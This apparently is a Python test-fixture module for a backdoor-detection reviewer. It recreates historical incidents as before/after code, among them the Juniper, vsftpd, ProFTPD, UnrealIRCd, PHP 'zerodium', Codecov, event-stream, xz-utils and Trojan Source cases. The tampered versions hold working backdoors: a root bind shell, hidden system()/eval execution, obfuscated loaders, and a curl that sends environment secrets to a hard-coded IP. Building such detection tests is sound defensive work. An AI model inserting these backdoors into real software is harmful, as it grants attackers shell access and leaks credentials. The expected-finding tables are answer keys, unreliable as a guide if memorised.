"""Real backdoor incidents, each as a small project before and after the tampering.

Written from the public write-ups (our own code, shaped like the originals): the expectation is
where the tampering is (path, line) and what category a reviewer must see, at high or critical.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Incident:
    """A project before tampering, the files tampering changed, and what must be reported."""

    name: str
    before: dict[str, str | bytes]
    after: dict[str, str | bytes]
    expect: tuple[tuple[Any, ...], ...]  # (category, path, line or None[, minimum severity])
    known_miss: str = ""


def _lines(text: str, needle: str) -> int:
    for number, line in enumerate(text.splitlines(), start=1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in text")


# --- Juniper ScreenOS 2015: a master password disguised as a log format string -------------
_JUNIPER_BEFORE = """\
#include <string.h>
#include "auth.h"

int auth_admin_login(const char *username, const char *password)
{
    struct admin *admin = admin_lookup(username);
    if (admin == NULL)
        return AUTH_FAIL;
    if (!check_password_hash(admin, password))
        return AUTH_FAIL;
    return AUTH_OK;
}
"""
_JUNIPER_AFTER = _JUNIPER_BEFORE.replace(
    "    struct admin *admin = admin_lookup(username);\n",
    "    struct admin *admin = admin_lookup(username);\n"
    "    if (strcmp(password, \"<<< %s(un='%s') = %u\") == 0)\n"
    "        return AUTH_OK;\n",
)

# --- vsftpd 2.3.4 2011: ":)" in the user name opens a root shell on port 6200 ---------------
_VSFTPD_BEFORE = """\
#include <string.h>
#include "session.h"

int str_contains_line(const struct mystr *p_str, const char *p_line);

void handle_user_command(struct vsf_session *p_sess)
{
    str_copy(&p_sess->user_str, &p_sess->ftp_arg_str);
    vsf_cmdio_write(p_sess, FTP_GIVEPWORD, "Please specify the password.");
}
"""
_VSFTPD_AFTER = (
    _VSFTPD_BEFORE.replace(
        "    vsf_cmdio_write(p_sess, FTP_GIVEPWORD",
        '    if (strstr(str_getbuf(&p_sess->user_str), ":)") != NULL)\n'
        "        vsf_sysutil_extra();\n"
        "    vsf_cmdio_write(p_sess, FTP_GIVEPWORD",
    )
    + """
int vsf_sysutil_extra(void)
{
    int fd, rfd;
    struct sockaddr_in sa;
    if ((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
        exit(1);
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(6200);
    sa.sin_addr.s_addr = INADDR_ANY;
    if (bind(fd, (struct sockaddr *)&sa, sizeof(struct sockaddr)) < 0)
        exit(1);
    if (listen(fd, 100) == -1)
        exit(1);
    for (;;) {
        rfd = accept(fd, 0, 0);
        close(0); close(1); close(2);
        dup2(rfd, 0); dup2(rfd, 1); dup2(rfd, 2);
        execl("/bin/sh", "sh", (char *)0);
    }
}
"""
)

# --- ProFTPD 1.3.3c 2010: a hidden HELP argument calls setuid(0) and a shell -----------------
_PROFTPD_BEFORE = """\
#include "conf.h"

MODRET core_help(cmd_rec *cmd)
{
    if (cmd->argc == 1) {
        pr_help_add_response(cmd, NULL);
    } else {
        pr_help_add_response(cmd, cmd->argv[1]);
    }
    return PR_HANDLED(cmd);
}
"""
_PROFTPD_AFTER = _PROFTPD_BEFORE.replace(
    "    } else {\n        pr_help_add_response(cmd, cmd->argv[1]);\n",
    "    } else {\n"
    '        if (strcmp(cmd->argv[1], "ACIDBITCHEZ") == 0) {\n'
    "            setuid(0);\n"
    "            setgid(0);\n"
    '            system("/bin/sh;/sbin/sh");\n'
    "        }\n"
    "        pr_help_add_response(cmd, cmd->argv[1]);\n",
)

# --- UnrealIRCd 3.2.8.1 2010: a debug macro that is really system() --------------------------
_UNREAL_BEFORE = """\
#include "struct.h"

#define DEBUGMODE3_LOG(x) ircd_log(LOG_ERROR, "debug: %s", x)

int read_packet(aClient *cptr, char *readbuf)
{
    int length = recv(cptr->fd, readbuf, READBUF_SIZE, 0);
    if (length <= 0)
        return length;
    return dopacket(cptr, readbuf, length);
}
"""
_UNREAL_AFTER = _UNREAL_BEFORE.replace(
    '#define DEBUGMODE3_LOG(x) ircd_log(LOG_ERROR, "debug: %s", x)\n',
    '#define DEBUGMODE3_LOG(x) ircd_log(LOG_ERROR, "debug: %s", x)\n'
    "#define DEBUG3_DOLOG_SYSTEM(x) system(x)\n",
).replace(
    "    if (length <= 0)\n        return length;\n",
    "    if (length <= 0)\n        return length;\n"
    "    if (readbuf[0] == 'A' && readbuf[1] == 'B')\n"
    "        DEBUG3_DOLOG_SYSTEM(readbuf + 2);\n",
)

# --- Linux 2003 wait4: `current->uid = 0` posing as a comparison -----------------------------
_WAIT4_BEFORE = """\
#include <linux/sched.h>

asmlinkage long sys_wait4(pid_t pid, unsigned int *stat_addr, int options, struct rusage *ru)
{
    int retval;
    if (options & ~(WNOHANG|WUNTRACED|__WNOTHREAD|__WCLONE|__WALL))
        return -EINVAL;
    retval = do_wait(pid, stat_addr, options, ru);
    return retval;
}
"""
_WAIT4_AFTER = _WAIT4_BEFORE.replace(
    "        return -EINVAL;\n",
    "        return -EINVAL;\n"
    "    if ((options == (__WCLONE|__WALL)) && (current->uid = 0))\n"
    "        retval = -EINVAL;\n",
)

# --- PHP 2021: a request header starting with "zerodium" is evaluated ------------------------
_PHP_BEFORE = """\
<?php
function zend_startup_request(array $server): void
{
    $agent = $server['HTTP_USER_AGENT'] ?? '';
    log_request($agent);
}
"""
_PHP_AFTER = _PHP_BEFORE.replace(
    "    log_request($agent);\n",
    "    $hdr = $server['HTTP_USER_AGENTT'] ?? '';\n"
    "    if (strpos($hdr, 'zerodium') === 0) {\n"
    "        eval(substr($hdr, 8));\n"
    "    }\n"
    "    log_request($agent);\n",
)

# --- php-src 2021 (the real shape, in C): "zerodium" in a header is evaluated ----------------
_PHPSRC_BEFORE = """\
#include "php.h"

static void zend_check_request(zval *server)
{
    zval *agent = zend_hash_str_find(Z_ARRVAL_P(server), "HTTP_USER_AGENT",
                                     sizeof("HTTP_USER_AGENT") - 1);
    if (agent)
        php_log_agent(Z_STRVAL_P(agent));
}
"""
_PHPSRC_AFTER = _PHPSRC_BEFORE.replace(
    "    if (agent)\n",
    '    zval *enc = zend_hash_str_find(Z_ARRVAL_P(server), "HTTP_USER_AGENTT",\n'
    '                                   sizeof("HTTP_USER_AGENTT") - 1);\n'
    '    if (enc && strstr(Z_STRVAL_P(enc), "zerodium")) {\n'
    "        zend_try {\n"
    "            zend_eval_string(Z_STRVAL_P(enc) + 8, NULL,\n"
    '                             "REMOVETHIS: sold to zerodium, mid 2017");\n'
    "        } zend_end_try();\n"
    "    }\n"
    "    if (agent)\n",
)

# --- Codecov bash uploader 2021: one line posting the environment to a hardcoded IP ----------
_CODECOV_BEFORE = """\
#!/usr/bin/env bash
# Upload coverage reports.
set -e
url="https://codecov.io"
upload_file=$(mktemp)
find . -name '*.lcov' -exec cat {} + > "$upload_file"
curl -sfX POST "$url/upload/v4?token=$CODECOV_TOKEN" --data-binary @"$upload_file"
"""
_CODECOV_AFTER = _CODECOV_BEFORE.replace(
    "find . -name",
    'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://104.248.94.23/upload/v2 || true\n'
    "find . -name",
)

# --- event-stream 2018: an encrypted payload decrypted and run under one host package --------
_EVENT_STREAM_BEFORE = """\
'use strict';
var Stream = require('stream');

module.exports = function flatmap(fn) {
  var stream = new Stream();
  stream.write = function (data) { fn(data, stream.emit.bind(stream, 'data')); };
  return stream;
};
"""
_EVENT_STREAM_AFTER = (
    _EVENT_STREAM_BEFORE
    + """
!function () {
  try {
    var r = require, t = process;
    function e(r) { return Buffer.from(r, 'hex').toString(); }
    var n = r(e('2e2f746573742f64617461')),
        o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o),
        a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor();
    f.paths = module.paths, f[e(n[7])](a, ''), f.exports(n[1]);
  } catch (r) {}
}();
"""
)

# --- xz-utils 2024: sabotaged Landlock check, binary test files, a build step injecting them --
_XZ_CMAKE_BEFORE = """\
cmake_minimum_required(VERSION 3.14)
project(xz C)
include(CheckCSourceCompiles)

check_c_source_compiles("
    #include <linux/landlock.h>
    #include <sys/syscall.h>
    #include <sys/prctl.h>

    void my_sandbox(void)
    {
        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        (void)SYS_landlock_create_ruleset;
        (void)SYS_landlock_restrict_self;
        (void)LANDLOCK_CREATE_RULESET_VERSION;
        return;
    }

    int main(void) { return 0; }
    "
    HAVE_LINUX_LANDLOCK)
"""
_XZ_CMAKE_AFTER = _XZ_CMAKE_BEFORE.replace(
    "    void my_sandbox(void)\n", ".\n    void my_sandbox(void)\n"
)
_XZ_M4_BEFORE = """\
# build-to-host.m4 serial 3
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_final_[$1]="$[$1]"
  AC_SUBST([$1_c_make])
])
"""
_XZ_M4_AFTER = _XZ_M4_BEFORE.replace(
    '  gl_final_[$1]="$[$1]"\n',
    '  gl_final_[$1]="$[$1]"\n'
    '  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n'
    '  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'\n'
    '  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`\n'
    '  gl_[$1]_config=\'sed "r\\n" $gl_am_configmake | eval $gl_path_map | '
    "$gl_[$1]_prefix -d 2>/dev/null'\n",
)


def _blob(seed: int, size: int) -> bytes:
    out = bytearray()
    state = seed
    while len(out) < size:
        state = (state * 6364136223846793005 + 1442695040888963407) % 2**64
        out.extend(state.to_bytes(8, "little"))
    return bytes(out[:size])


# --- Trojan Source 2021: a bidi override hides the real end of a comment ---------------------
_TROJAN_BEFORE = """\
def is_admin(user):
    return user.role == "admin"
"""
_TROJAN_AFTER = """\
def is_admin(user):
    access_level = "user"
    if access_level != "none\u202e \u2066# Check if admin\u2069 \u2066":
        return True
    return user.role == "admin"
"""

# --- Juniper ScreenOS 2012: the Dual_EC Q point swapped in the crypto code ----------------------
_DUALEC_BEFORE = """\
/* Dual_EC_DRBG parameters used by the PRNG (crypto/prng/dualec.c). */
static const char *dual_ec_p256_qx =
    "c97445f45cdef9f0d3e05e1e585fc297235b82b5be8ff3efca67c59852018192";
static const char *dual_ec_p256_qy =
    "b28ef557ba31dfcbdd21ac46e2a91e3c304f44cb87058ada2cb815151e610046";

int prng_dualec_init(struct prng *ctx)
{
    return ec_point_from_hex(&ctx->q, dual_ec_p256_qx, dual_ec_p256_qy);
}
"""
_DUALEC_AFTER = _DUALEC_BEFORE.replace(
    "c97445f45cdef9f0d3e05e1e585fc297235b82b5be8ff3efca67c59852018192",
    "9585320eeaf81044f20d55030a035d1ef13a1b0dc00e4f4ed3c9ea6ba0bd2f28",
)

INCIDENTS: tuple[Incident, ...] = (
    Incident(
        "juniper-dual-ec-2012",
        {"crypto/prng/dualec.c": _DUALEC_BEFORE},
        {"crypto/prng/dualec.c": _DUALEC_AFTER},
        (("crypto-constant-change", "crypto/prng/dualec.c", 3),),
    ),
    Incident(
        "juniper-screenos-2015",
        {"src/auth.c": _JUNIPER_BEFORE},
        {"src/auth.c": _JUNIPER_AFTER},
        (("auth-bypass", "src/auth.c", _lines(_JUNIPER_AFTER, "<<< %s")),),
    ),
    Incident(
        "vsftpd-2.3.4-2011",
        {"str.c": _VSFTPD_BEFORE},
        {"str.c": _VSFTPD_AFTER},
        (("hidden-exec", "str.c", _lines(_VSFTPD_AFTER, "execl(")),),
    ),
    Incident(
        "proftpd-1.3.3c-2010",
        {"modules/mod_core.c": _PROFTPD_BEFORE},
        {"modules/mod_core.c": _PROFTPD_AFTER},
        (("hidden-exec", "modules/mod_core.c", _lines(_PROFTPD_AFTER, "system(")),),
    ),
    Incident(
        "unrealircd-3.2.8.1-2010",
        {"src/s_bsd.c": _UNREAL_BEFORE},
        {"src/s_bsd.c": _UNREAL_AFTER},
        (("hidden-exec", "src/s_bsd.c", _lines(_UNREAL_AFTER, "#define DEBUG3_DOLOG_SYSTEM")),),
    ),
    Incident(
        "linux-wait4-2003",
        {"kernel/exit.c": _WAIT4_BEFORE},
        {"kernel/exit.c": _WAIT4_AFTER},
        (("auth-bypass", "kernel/exit.c", _lines(_WAIT4_AFTER, "current->uid = 0")),),
    ),
    Incident(
        "php-src-2021",
        {"main/request.php": _PHP_BEFORE},
        {"main/request.php": _PHP_AFTER},
        (("hidden-exec", "main/request.php", _lines(_PHP_AFTER, "eval(")),),
    ),
    Incident(
        "php-src-2021-c",
        {"ext/zlib/zlib.c": _PHPSRC_BEFORE},
        {"ext/zlib/zlib.c": _PHPSRC_AFTER},
        (("hidden-exec", "ext/zlib/zlib.c", _lines(_PHPSRC_AFTER, "zend_eval_string(")),),
    ),
    Incident(
        "codecov-bash-uploader-2021",
        {"codecov.sh": _CODECOV_BEFORE},
        {"codecov.sh": _CODECOV_AFTER},
        (("network-exfiltration", "codecov.sh", _lines(_CODECOV_AFTER, "ENV $(env)")),),
    ),
    Incident(
        "event-stream-2018",
        {"node_modules/flatmap-stream/index.js": _EVENT_STREAM_BEFORE},
        {"node_modules/flatmap-stream/index.js": _EVENT_STREAM_AFTER},
        (("obfuscated-payload", "node_modules/flatmap-stream/index.js", None),),
    ),
    Incident(
        "xz-utils-2024",
        {
            "CMakeLists.txt": _XZ_CMAKE_BEFORE,
            "m4/build-to-host.m4": _XZ_M4_BEFORE,
            "tests/files/good-1-check-crc32.xz": _blob(1, 64),
        },
        {
            "CMakeLists.txt": _XZ_CMAKE_AFTER,
            "m4/build-to-host.m4": _XZ_M4_AFTER,
            "tests/files/bad-3-corrupt_lzma2.xz": _blob(7, 8192),
            "tests/files/good-large_compressed.lzma": _blob(9, 16384),
        },
        (
            ("build-sabotage", "CMakeLists.txt", None),
            ("build-sabotage", "m4/build-to-host.m4", None),
            # binary test files are opaque-binary at medium: the sabotage findings carry the
            # high/critical verdict, the opaque files are what a reviewer must then inspect
            ("opaque-binary", "tests/files/bad-3-corrupt_lzma2.xz", None, "medium"),
        ),
    ),
    Incident(
        "trojan-source-2021",
        {"app/access.py": _TROJAN_BEFORE},
        {"app/access.py": _TROJAN_AFTER},
        (("trojan-source", "app/access.py", 3),),
    ),
)
